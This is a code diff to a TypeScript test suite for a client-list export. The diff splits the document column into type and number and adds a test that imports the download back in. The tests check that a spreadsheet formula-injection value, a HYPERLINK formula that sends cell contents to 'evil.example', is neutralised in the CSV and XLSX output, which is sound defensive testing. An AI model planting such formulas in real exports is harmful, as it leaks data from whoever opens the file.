@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { columnsFor, findClientRow } from '../../src/clients/queries.js';
 import { clients } from '../../src/clients/schema.js';
 import { rows } from '../../src/db/index.js';
+import { downloadColumns } from '../../src/exports/clients.js';
 import { exportSource } from '../../src/exports/registry.js';
 import { todayIn } from '../../src/platform/dates.js';
 import { translator } from '../../src/platform/i18n/index.js';
@@ -20,6 +21,7 @@ import type { Tenant } from '../../src/tenants/schema.js';
 import { addOrder, seedClient } from '../clients/support.js';
 import { startTestApp, type Harness, type TestClient } from '../support/app.js';
 import { addStaff, loggedIn, newTenant, type Staff } from '../support/factories.js';
+import { importFile } from '../imports/support.js';
 import { addClients, addManyClients } from './support.js';
 
 const libreoffice = (() => {
@@ -80,10 +82,10 @@ describe('downloading the clients tray', () => {
     const text = body.toString('utf8');
     expect(text.startsWith('\uFEFF')).toBe(true);
     const lines = text.slice(1).trimEnd().split('\r\n');
-    expect(lines[0]).toBe('Documento,Nombre,Correo electrónico,Teléfono,Segmento,Estado,Situación,Saldo total');
+    expect(lines[0]).toBe('Tipo de documento,Número de documento,Nombre,Correo electrónico,Teléfono,Segmento,Estado,Situación,Saldo total');
     expect(lines).toHaveLength(1 + 7);
     expect(text).not.toContain('Otro Cliente');
-    expect(text).toContain('DNI 01234567,María Peña');
+    expect(text).toContain('DNI,01234567,María Peña');
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")"`);
     expect(text).toContain(`'+51 987`);
     expect(text).toContain(`'-2+3`);
@@ -107,8 +109,9 @@ describe('downloading the clients tray', () => {
     await addOrder(h, tenant, beto, { dueDate: '2026-03-15', amount: 5_000 });
     await seedClient(h, tenant, { name: 'Carla Sin Deuda' });
     const client = await loggedIn(h, tenant, boss);
-    const all = columnsFor([{ key: 'region', label: 'Región' }]);
-    expect((await client.post('/app/clients/columns', { columns: all.map((c) => c.key) })).status).toBe(303);
+    const chosen = columnsFor([{ key: 'region', label: 'Región' }]);
+    expect((await client.post('/app/clients/columns', { columns: chosen.map((c) => c.key) })).status).toBe(303);
+    const all = downloadColumns(chosen);
 
     const response = await client.post('/app/exports', { kind: 'clients', format: 'csv', query: '' });
     expect(response.status).toBe(303);
@@ -133,9 +136,29 @@ describe('downloading the clients tray', () => {
     );
     expect(records).toEqual(expected);
     expect(records[0]).toEqual([
-      'DNI ' + ana.documentNumber, 'Ana Peña', 'ana@correo.pe', '+51987654321', 'Premium', 'Activo', expected[0]![6], 'Sara Supervisora', 'Luis Asesor',
-      expected[0]![9], 'No llamar, Sin WhatsApp', expected[0]![11], '1234.56', '49', 'Norte',
+      'DNI', ana.documentNumber, 'Ana Peña', 'ana@correo.pe', '+51987654321', 'Premium', 'Activo', expected[0]![7], 'Sara Supervisora', 'Luis Asesor',
+      expected[0]![10], 'No llamar, Sin WhatsApp', expected[0]![12], '1234.56', '49', 'Norte',
     ]);
+
+    // The download uploads back as a file of clients: as it is, it changes nothing; with
+    // another advisor written in, it reassigns the client.
+    const roundTrip = async (name: string, bytes: Buffer) => (await importFile(h, client, name, bytes)).process;
+    const csv = await roundTrip('clientes.csv', Buffer.from(body));
+    expect(csv.counts, JSON.stringify(csv)).toMatchObject({ rows: 3, create: 0, update: 0, unchanged: 3, rejected: 0 });
+    await client.post('/app/exports', { kind: 'clients', format: 'xlsx', query: '' });
+    await h.runJobs();
+    const [xlsx] = await h.db.select().from(fileProcesses).where(and(eq(fileProcesses.tenantId, tenant.id), eq(fileProcesses.kind, 'export'))).orderBy(desc(fileProcesses.id)).limit(1);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await (await client.get(`/app/process-log/${xlsx!.id}/files/result`)).arrayBuffer()) as ArrayBuffer);
+    const asIs = Buffer.from(await workbook.xlsx.writeBuffer());
+    expect((await roundTrip('clientes.xlsx', asIs)).counts).toMatchObject({ rows: 3, create: 0, update: 0, unchanged: 3, rejected: 0 });
+    const sheet = workbook.worksheets[0]!;
+    const advisorColumn = (sheet.getRow(1).values as unknown[]).indexOf('Asesor');
+    sheet.getRow(3).getCell(advisorColumn).value = 'Luis Asesor';
+    const edited = await roundTrip('reasignados.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
+    expect(edited.counts, JSON.stringify(edited)).toMatchObject({ update: 1, unchanged: 2, rejected: 0 });
+    const [reassigned] = await h.db.select().from(clients).where(eq(clients.id, beto.id));
+    expect(reassigned).toMatchObject({ advisorId: luis.id, status: 'inactivo', name: 'Beto Ávila' });
   });
 
   it('the xlsx writes every value as a typed value, never a formula', async () => {
@@ -149,7 +172,7 @@ describe('downloading the clients tray', () => {
     sheet.eachRow((row, n) => {
       if (n === 1) return;
       row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
-      names.push(row.getCell(2).value);
+      names.push(row.getCell(3).value);
     });
     expect(names).toContain('=HYPERLINK("http://evil.example/?x="&A1,"clic")');
     expect(body.includes(Buffer.from('<f>'))).toBe(false);
@@ -168,7 +191,8 @@ describe('downloading the clients tray', () => {
     execFileSync('libreoffice', ['--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', out, path], { stdio: 'ignore', timeout: 110_000 });
     const csv = readFileSync(join(out, 'clientes.csv'), 'utf8');
     expect(csv).toContain('María Peña');
-    expect(csv).toContain('DNI 00456789');
+    // The document number keeps its leading zeros.
+    expect(csv).toContain('DNI,00456789');
     expect(csv.trimEnd().split('\n')).toHaveLength(8);
   });
 
